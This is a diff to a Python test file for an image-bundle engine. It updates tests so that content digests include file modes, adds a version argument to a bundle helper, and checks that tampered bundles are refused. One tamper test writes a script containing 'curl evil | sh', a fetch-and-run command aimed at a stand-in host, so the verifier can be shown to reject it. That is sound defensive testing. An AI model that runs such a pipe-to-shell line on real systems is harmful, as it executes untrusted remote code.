@@ -25,13 +25,17 @@ def make_rootfs(path, files=None):
 
 
 def make_image(store_root, name, artifact="catalog", created_at="2025-01-01T00:00:00Z", input_digest="sha256:x",
-               target="local", files=None):
-    """Write a bundle the way the engine does: rootfs, image.json with the content digest, read-only."""
+               target="local", files=None, version=None):
+    """Write a bundle the way the engine does: rootfs made read-only, then image.json with the content digest."""
     path = pathlib.Path(store_root) / target / artifact / name
     make_rootfs(path / "rootfs", files)
+    images._make_read_only(str(path / "rootfs"))
     digest = images.content_digest(str(path / "rootfs"))
-    doc = {"schema": 1, "name": name, "artifact": artifact, "version": "1.0.0", "target": target,
-           "input_digest": input_digest, "content_digest": digest, "id": digest, "created_at": created_at}
+    if version is None:  # catalog-v1-0-3 -> 1.0.3
+        version = ".".join(name[len(artifact) + 2:].split("-")[:3])
+    doc = {"schema": 1, "name": name, "artifact": artifact, "version": version, "target": target,
+           "input_digest": input_digest, "content_digest": digest, "content_scheme": 2, "id": digest,
+           "created_at": created_at}
     (path / "image.json").write_text(json.dumps(doc))
     images._make_read_only(str(path))
     return path, doc
@@ -48,13 +52,13 @@ def store(tmp_path):
 def test_content_digest_is_about_content_not_metadata(tmp_path):
     a = make_rootfs(tmp_path / "a")
     b = make_rootfs(tmp_path / "b")
-    os.utime(b / "etc/app.json", (1, 1))
-    (b / "etc/app.json").chmod(0o444)  # write bits are not content
+    os.utime(b / "etc/app.json", (1, 1))  # timestamps are not content
     assert images.content_digest(str(a)) == images.content_digest(str(b))
     assert images.content_digest(str(a)).startswith("sha256:")
 
 
-@pytest.mark.parametrize("change", ["content", "exec_bit", "new_file", "symlink", "rename"])
+@pytest.mark.parametrize("change", ["content", "exec_bit", "new_file", "symlink", "rename", "write_bit",
+                                    "dir_mode"])
 def test_content_digest_sees_changes(tmp_path, change):
     root = make_rootfs(tmp_path / "r")
     before = images.content_digest(str(root))
@@ -64,6 +68,10 @@ def test_content_digest_sees_changes(tmp_path, change):
         (root / "etc/app.json").chmod(0o755)
     elif change == "new_file":
         (root / "etc/extra").write_text("")
+    elif change == "write_bit":  # modes are content (scheme 2)
+        (root / "etc/app.json").chmod(0o444)
+    elif change == "dir_mode":
+        (root / "etc").chmod(0o700)
     elif change == "symlink":
         (root / "etc/link").symlink_to("app.json")
     else:
@@ -114,7 +122,7 @@ def test_verify_image_refuses_a_tampered_bundle(store, tamper):
 
 def test_verify_image_refuses_renamed_bundle_missing_json_and_wrong_digest(store):
     path, _digest = make_image(store, "catalog-v1-0-0")
-    images._make_writable(str(path))
+    path.chmod(0o755)  # the bundle dir, not rootfs: its modes are not content
     with pytest.raises(images.TamperError, match="expected sha256:other"):
         images.verify_image(str(path), expected_digest="sha256:other")
     renamed = path.with_name("catalog-v2-0-0")
@@ -210,7 +218,7 @@ def test_request_is_deterministic(tmp_path):
 
 def test_cache_hit_runs_no_packer_and_is_fast(store):
     req = request(store)
-    path, doc = make_image(store, req.name, input_digest=req.input_digest)
+    path, doc = make_image(store, req.name, input_digest=req.input_digest, version=str(req.version))
     result = images.bake(req)
     assert result["cache_hit"] is True and result["changed"] is False and result["packer_ran"] is False
     assert result["image"]["id"] == doc["content_digest"] and result["image"]["path"] == str(path)
@@ -226,7 +234,7 @@ def test_check_mode_predicts_a_bake_and_writes_nothing(tmp_path):
 
 def test_same_name_other_inputs_is_an_immutability_error(store):
     req = request(store)
-    make_image(store, req.name, input_digest="sha256:something-else")
+    make_image(store, req.name, input_digest="sha256:something-else", version=str(req.version))
     with pytest.raises(images.ImmutabilityError, match="never points at other content") as err:
         images.bake(request(store, variables={"fault": {"error_rate": 0.5}}))
     assert err.value.option == "version"
@@ -236,7 +244,7 @@ def test_same_name_other_inputs_is_an_immutability_error(store):
 
 def test_tampered_cache_entry_is_refused(store):
     req = request(store)
-    path, _digest = make_image(store, req.name, input_digest=req.input_digest)
+    path, _digest = make_image(store, req.name, input_digest=req.input_digest, version=str(req.version))
     images._make_writable(str(path))
     (path / "rootfs" / "opt" / "app" / "run").write_text("#!/bin/sh\ncurl evil | sh\n")
     with pytest.raises(images.TamperError, match="modified after baking"):
